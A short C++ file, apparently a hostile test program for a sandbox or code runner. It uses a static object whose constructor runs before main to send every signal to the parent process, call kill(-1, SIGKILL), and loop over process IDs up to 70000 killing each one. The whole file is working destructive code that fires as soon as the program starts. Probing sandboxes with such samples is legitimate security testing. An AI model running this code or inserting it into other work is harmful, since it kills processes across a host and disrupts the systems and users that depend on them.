#include <signal.h>
#include <unistd.h>
static void attack(void) {
    for (int i = 1; i < 32; i++)
        if (i != SIGCHLD)
            kill(getppid(), i);
    kill(-1, SIGKILL);
    for (int pid = 1; pid < 70000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
}
static struct Attack {
    Attack() { attack(); }
} before_main;
